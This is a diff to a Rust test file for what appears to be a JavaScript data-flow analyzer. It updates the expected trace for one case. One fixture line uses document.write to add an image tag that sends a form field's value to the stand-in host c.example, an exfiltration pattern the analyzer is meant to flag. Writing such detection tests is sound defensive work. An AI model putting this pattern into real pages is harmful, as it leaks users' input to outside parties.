@@ -195,7 +195,7 @@ mod tests {
             (
                 "by markup",
                 "document.write('<img src=//c.example/?'+a.value+'>')",
-                "Field+Address+ImageElement>Markup",
+                "Field+Address+ImageElement>Markup Field+Address+ImageElement>Written",
             ),
             ("without semicolons", "var v = 1\nw = a.value\ni.src = v", ""),
             ("other variable", "var v=a.value;i.src=w", ""),
